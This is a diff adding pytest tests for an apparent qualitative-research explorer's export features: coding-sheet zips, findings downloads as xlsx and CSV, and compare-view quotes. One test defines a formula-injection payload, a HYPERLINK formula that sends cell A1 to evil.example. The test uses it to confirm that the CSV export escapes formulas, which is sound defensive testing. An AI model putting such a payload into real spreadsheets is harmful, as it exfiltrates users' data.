@@ -8,12 +8,15 @@ from __future__ import annotations
 
 import csv
 import hashlib
+import io
 import shutil
+import zipfile
 from pathlib import Path
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from kg.explorer.ui import md
 from kg.qda import read_qda
 from kg.sheets.write import write_tables
 from kg.store import open_store
@@ -320,3 +323,136 @@ def test_a_wrong_concept_in_the_mapping_table_is_reported_and_nothing_written(
 def qda_state(path: str) -> int:
     with open_store(path) as store:
         return len(store.dump("nq"))
+
+
+# --- 3. a study exported to its coding sheet --------------------------------------------------
+
+SEED = "carstensen2024"
+
+
+def zip_members(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def test_a_study_exports_to_the_coding_sheet_export_sheet_writes(
+    monkeypatch, fresh_store_path, tmp_path, cli
+):
+    from kg.errors import BadInput
+    from kg.explorer.downloads import study_sheet
+    from kg.sheets.read import read_tables
+
+    ran = cli("import", str(write_sheet(tmp_path / "new.xlsx")), store=fresh_store_path)
+    assert ran.exit_code == 0, ran.err
+    new = "newstudy2025"  # imported from a sheet: the graph holds no source text of it
+    at = app_on(monkeypatch, fresh_store_path)
+    at.selectbox(key="overview_export").set_value(SEED).run()
+    no_errors(at)
+    buttons = {d.proto.label: d.proto for d in at.get("download_button")}
+    assert buttons[f"Coding sheet of {SEED} (.xlsx)"].disabled, "its source text needs the .zip"
+    assert not buttons["… with its source text (.zip)"].disabled
+    at = app_on(monkeypatch, fresh_store_path, "findings", finding=f"{new}/F1")
+    buttons = {d.proto.label: d.proto for d in at.get("download_button")}
+    assert not buttons[f"Coding sheet of {new} (.xlsx)"].disabled
+
+    with open_store(fresh_store_path) as store:
+        for study in (SEED, new):
+            zipped = tmp_path / f"{study}.zip"
+            ran = cli("export-sheet", study, "-o", str(zipped), store=fresh_store_path)
+            assert ran.exit_code == 0, ran.err
+            mine = zip_members(study_sheet(store, study, ".zip"))
+            assert mine == zip_members(zipped.read_bytes())
+        seed = zip_members(study_sheet(store, SEED, ".zip"))
+        assert seed[f"sources/{SEED}.txt"], "the zip holds the source text"
+        with pytest.raises(BadInput, match="cannot hold the study's source text"):
+            study_sheet(store, SEED, ".xlsx")
+        book = tmp_path / "mine.xlsx"
+        book.write_bytes(study_sheet(store, new, ".xlsx"))
+    cli_book = tmp_path / "cli.xlsx"
+    assert cli("export-sheet", new, "-o", str(cli_book), store=fresh_store_path).exit_code == 0
+    ours, theirs = read_tables(book), read_tables(cli_book)
+    assert set(ours) == {"studies", "findings"} == set(theirs)
+    for name in ours:
+        assert ours[name].columns == theirs[name].columns
+        assert [r.cells for r in ours[name].rows] == [r.cells for r in theirs[name].rows]
+    assert ours["findings"].rows[0].get("statement").startswith("Nurses said")
+
+
+# --- 4. the filtered findings downloaded ------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"nurses")'
+
+
+def test_the_filtered_findings_download_as_a_sheet_and_a_safe_csv(
+    monkeypatch, fresh_store_path, tmp_path, cli
+):
+    from kg.explorer.downloads import findings_csv, findings_tables, findings_xlsx
+    from kg.namespaces import QIKG
+    from kg.read.findings import FindingFilters, search_findings
+    from kg.sheets.cells import restore_cell
+    from kg.sheets.read import read_tables
+    from tests.sheets import finding
+
+    sheet = write_sheet(
+        tmp_path / "hostile.xlsx",
+        findings=[finding(statement=f"{HOSTILE} Nurses said lack of time limited their work.")],
+    )
+    ran = cli("import", str(sheet), store=fresh_store_path)
+    assert ran.exit_code == 0, ran.err
+
+    at = app_on(monkeypatch, fresh_store_path, "findings")
+    group = str(QIKG.Nurse)
+    at.multiselect(key="filter_professional_groups").set_value([group]).run()
+    no_errors(at)
+    labels = [d.proto.label for d in at.get("download_button")]
+    assert labels[:2] == ["Download these findings (.xlsx)", "Download these findings (.csv)"]
+
+    filters = FindingFilters(professional_groups=(group,))
+    with open_store(fresh_store_path) as store:
+        matching = search_findings(store, filters, limit=10_000)
+        tables = findings_tables(store, filters)
+        csv_bytes = findings_csv(store, filters)
+        book = tmp_path / "findings.xlsx"
+        book.write_bytes(findings_xlsx(store, filters))
+    refs = {r.ref for r in matching.rows}
+    assert len(refs) == matching.total > 1
+    assert {f"{r['study_id']}/{r['finding_id']}" for r in tables["findings"][1]} == refs
+    assert {r["study_id"] for r in tables["studies"][1]} == {r.split("/")[0] for r in refs}
+
+    text = csv_bytes.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {f"{r['study_id']}/{r['finding_id']}" for r in rows} == refs
+    hostile = next(r for r in rows if r["study_id"] == "newstudy2025")
+    assert hostile["statement"].startswith("'=HYPERLINK"), "the CSV cell never runs as a formula"
+    assert restore_cell(hostile["statement"]).startswith(HOSTILE)
+    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values() if c)
+
+    read = read_tables(book)  # the workbook is a coding sheet, read back as it was written
+    statements = {r.get("statement") for r in read["findings"].rows}
+    assert any(s.startswith(HOSTILE) for s in statements)
+    assert {f"{r.get('study_id')}/{r.get('finding_id')}" for r in read["findings"].rows} == refs
+
+
+# --- 5. a compare cell opens its findings and their quotes ------------------------------------
+
+
+def test_a_compare_cell_opens_its_findings_with_their_quotes(
+    monkeypatch, built_store, built_store_path
+):
+    from kg.namespaces import QIKG
+    from kg.read.findings import finding
+
+    at = app_on(monkeypatch, built_store_path, "compare")
+    at.session_state["compare_columns"] = "enablers"
+    at.run()
+    at.selectbox(key="compare_study").set_value(SEED).run()
+    at.selectbox(key="compare_concept").set_value(str(QIKG.BottomUpApproach)).run()
+    no_errors(at)
+    detail = finding(built_store, f"{SEED}/F6")
+    assert detail is not None and detail.quotes
+    said = "\n".join(m.value for m in at.markdown)
+    refs = [link.proto.label for link in at.get("page_link") if "/" in link.proto.label]
+    assert f"{SEED}/F6" in refs
+    for quote in detail.quotes:
+        first_line = quote.text.splitlines()[0]
+        assert md(first_line)[:60] in said
